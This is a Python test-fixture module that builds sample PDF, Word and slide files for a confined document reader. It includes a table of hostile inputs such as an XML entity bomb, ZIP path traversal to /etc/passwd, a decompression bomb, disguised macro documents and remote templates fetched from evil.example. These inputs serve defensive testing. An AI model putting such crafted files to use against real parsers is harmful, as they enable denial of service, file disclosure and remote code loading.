"""Papers made for a test: good ones, and those that nobody may store."""

import io
import zipfile
import zlib
from collections.abc import Callable, Mapping
from importlib import import_module

import docx
import pypdfium2
from PIL import Image
from weasyprint import HTML

from meetings.confined.__main__ import TASKS
from meetings.confined.errors import DeclinedError
from meetings.confined.running import Answer, ConfinedError


def run_here(task: str, data: bytes, **options: object) -> Answer:
    """In the place of `run_confined` for files that a test made for good ends: quick, and its branches are counted."""
    try:
        return Answer(*import_module(TASKS[task]).read(data, **options))
    except DeclinedError as declined:
        raise ConfinedError(declined.code) from declined


def pdf(body: str, style: str = "") -> bytes:
    """As a word processor writes it: real fonts, real Japanese."""
    sheet = f"<style>@page {{ size: A4 }} body {{ font-family: 'BIZ UDMincho' }} {style}</style>"
    written: bytes = HTML(string=f"<html lang='ja'>{sheet}{body}</html>").write_pdf()
    return written


def bare_pdf(
    *, pages: int = 1, catalog: bytes = b"", page: bytes = b"", more: tuple[bytes, ...] = (), end: bytes = b""
) -> bytes:
    """By hand. `catalog` and `page` stand in their dictionaries, `more` are objects from number `pages + 3` on."""
    kids = b" ".join(b"%d 0 R" % (number + 3) for number in range(pages))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog,
        b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, pages),
        *[b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 400] %s >>" % page] * pages,
        *more,
    ]
    output = bytearray(b"%PDF-1.7\n")
    places = []
    for number, each in enumerate(objects, start=1):
        places.append(len(output))
        output += b"%d 0 obj\n%s\nendobj\n" % (number, each)
    table = len(output)
    output += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    output += b"".join(b"%010d 00000 n \n" % place for place in places)
    output += b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        end,
        table,
    )
    return bytes(output)


def stream(data: bytes, head: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), head, data)


def packed(objects: bytes, head: bytes = b"/Filter /FlateDecode") -> bytes:
    """An object stream: dictionaries that nobody sees in the bytes of the file."""
    return stream(zlib.compress(b"9 0 " + objects), b"/Type /ObjStm /N 1 /First 4 " + head)


def locked_pdf() -> bytes:
    """With a password that nobody knows; the numbers only look like one."""
    lock = b"<< /Filter /Standard /V 1 /R 2 /O <%s> /U <%s> /P -44 >>" % (b"41" * 32, b"42" * 32)
    return bare_pdf(more=(lock,), end=b"/Encrypt 4 0 R /ID [<41> <41>]")


def scanned_pdf() -> bytes:
    """A picture of a page, without a word in it."""
    output = io.BytesIO()
    Image.new("RGB", (300, 400), "#dddddd").save(output, format="PDF")
    return output.getvalue()


def attached_pdf() -> bytes:
    with pypdfium2.PdfDocument(bare_pdf()) as document:
        document.new_attachment("secret.exe").set_data(b"MZ")
        output = io.BytesIO()
        document.save(output)
    return output.getvalue()


def word(fill: Callable[[docx.document.Document], object] | str = "県社協の山田です。") -> bytes:
    document = docx.Document()
    if callable(fill):
        fill(document)
    else:
        document.add_paragraph(fill)
    output = io.BytesIO()
    document.save(output)
    return output.getvalue()


def with_parts(content: bytes, changes: Mapping[str, bytes | None]) -> bytes:
    """The same ZIP with parts replaced, added, or (None) taken out."""
    output = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(content)) as old,
        zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for name in old.namelist():
            if name not in changes:
                new.writestr(name, old.read(name))
        for name, data in changes.items():
            if data is not None:
                new.writestr(name, data)
    return output.getvalue()


_NAMES = {
    "a": "http://schemas.openxmlformats.org/drawingml/2006/main",
    "p": "http://schemas.openxmlformats.org/presentationml/2006/main",
    "r": "http://schemas.openxmlformats.org/officeDocument/2006/relationships",
    "mc": "http://schemas.openxmlformats.org/markup-compatibility/2006",
}
_SPACES = " ".join(f'xmlns:{prefix}="{name}"' for prefix, name in _NAMES.items())


def shape(*paragraphs: str, hidden: bool = False) -> str:
    lines = "".join(f"<a:p><a:r><a:t>{words}</a:t></a:r></a:p>" for words in paragraphs)
    mark = ' hidden="1"' if hidden else ""
    properties = f'<p:nvSpPr><p:cNvPr id="2" name="x"{mark}/></p:nvSpPr>'
    return f"<p:sp>{properties}<p:txBody>{lines}</p:txBody></p:sp>"


def slides(*pages: str, order: tuple[int, ...] = (), hidden: tuple[int, ...] = (), **parts: bytes) -> bytes:
    """As PowerPoint packs them; `pages` is what stands on each, `order` how they are shown."""
    shown = order or tuple(range(1, len(pages) + 1))
    ids = "".join(f'<p:sldId id="{255 + number}" r:id="rId{number}"/>' for number in shown)
    files = {
        "[Content_Types].xml": "<Types/>",
        "ppt/presentation.xml": f"<p:presentation {_SPACES}><p:sldIdLst>{ids}</p:sldIdLst></p:presentation>",
        "ppt/_rels/presentation.xml.rels": _relations(
            {f"rId{number}": ("slide", f"slides/slide{number}.xml") for number in shown}
        ),
    }
    for number, page in enumerate(pages, start=1):
        mark = ' show="0"' if number in hidden else ""
        files[f"ppt/slides/slide{number}.xml"] = (
            f"<p:sld {_SPACES}{mark}><p:cSld><p:spTree>{page}</p:spTree></p:cSld></p:sld>"
        )
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in files.items():
            archive.writestr(name, text)
    return with_parts(output.getvalue(), {name.replace("__", "/"): data for name, data in parts.items()})


def _relations(targets: Mapping[str, tuple[str, str]]) -> str:
    rows = "".join(
        f'<Relationship Id="{key}" Type="{_NAMES["r"]}/{kind}" Target="{target}"/>'
        for key, (kind, target) in targets.items()
    )
    return f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{rows}</Relationships>'


def part_of(content: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.read(name)


def macro_word() -> bytes:
    """What Word calls .docm, under a harmless name: only its list of parts tells."""
    plain = word()
    types = part_of(plain, "[Content_Types].xml").replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    return with_parts(plain, {"[Content_Types].xml": types})


def fetching_word(target: str, kind: str = "attachedTemplate") -> bytes:
    rels = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" TargetMode="External" '
        f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}"/>'
        "</Relationships>"
    )
    return with_parts(word(), {"word/_rels/settings.xml.rels": rels.encode()})


def entity_word() -> bytes:
    plain = word()
    levels = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
    evil = part_of(plain, "word/document.xml").decode()
    evil = evil.replace("?>", f'?><!DOCTYPE w [<!ENTITY e0 "ha">{levels}]>', 1).replace("県社協", "&e9;")
    return with_parts(plain, {"word/document.xml": evil.encode()})


def encrypted_zip() -> bytes:
    """A plain document whose directory says that everything in it is locked."""
    data = bytearray(word())
    place = data.find(b"PK\x01\x02")
    while place >= 0:
        data[place + 8] |= 1
        place = data.find(b"PK\x01\x02", place + 1)
    return bytes(data)


def picture(kind: str = "PNG", size: tuple[int, int] = (60, 40), **options: object) -> bytes:
    output = io.BytesIO()
    Image.new("RGB", size, "#0017c1").save(output, format=kind, **options)
    return output.getvalue()


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"

# Answered in words wherever a file is taken in; the words that must be in the answer.
HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    "empty": (lambda: b"", "空です"),
    "only spaces": (lambda: b" \r\n\t", "空です"),
    "only zeros": (lambda: b"\x00" * 100, "空です"),
    "torn pdf": (lambda: b"%PDF-1.7\n1 0 obj\n<<", "こわれています"),
    "pdf with a password": (locked_pdf, "パスワード"),
    "pdf of 5,000 pages": (lambda: bare_pdf(pages=5_000), "ページが多すぎます"),
    "pdf behind html": (lambda: b"<html><script>1</script>\n" + bare_pdf(), ""),
    "torn word": (lambda: word()[:2_000], "こわれています"),
    "any zip": (lambda: with_parts(word(), {"word/document.xml": None}), "ZIP"),
    "word with macros": (lambda: with_parts(word(), {"word/vbaProject.bin": b"x"}), "マクロ"),
    "docm called docx": (macro_word, "マクロ"),
    "word with a program": (
        lambda: with_parts(word(), {"word/embeddings/oleObject1.bin": OLE}),
        "埋め込まれ",
    ),
    "word that climbs": (lambda: with_parts(word(), {"../../etc/passwd": b"x"}), "中の名前"),
    "word with an absolute name": (lambda: with_parts(word(), {"/etc/passwd": b"x"}), "中の名前"),
    "word that unfolds": (lambda: with_parts(word(), {"word/x.xml": b"0" * 60_000_000}), "大きくなりすぎる"),
    "word of many parts": (
        lambda: with_parts(word(), {f"word/{n}.xml": b"" for n in range(4_000)}),
        "大きくなりすぎる",
    ),
    "word that fetches": (lambda: fetching_word("https://evil.example/t.dotm"), "よそのサイト"),
    "word that fetches from a share": (lambda: fetching_word("\\\\evil.example\\t.dotm"), "よそのサイト"),
    "locked zip": (encrypted_zip, "パスワード"),
    "zip behind html": (lambda: b"PK<script>" + word(), "くっついて"),
    "word before a script": (lambda: word() + b"<script>", "くっついて"),
    "old word": (lambda: OLE + b"\x00" * 600, "古い形式"),
    "locked word": (lambda: OLE + b"\x00" * 40 + "EncryptedPackage".encode("utf-16-le"), "パスワード"),
    "rich text": (lambda: b"{\\rtf1 hello}", "リッチテキスト"),
    "a program": (lambda: b"\x7fELF\x02\x01\x01" + b"\x00" * 50 + b"x", ""),
    "a web page": (lambda: b"<!DOCTYPE html><p>1", ""),
}
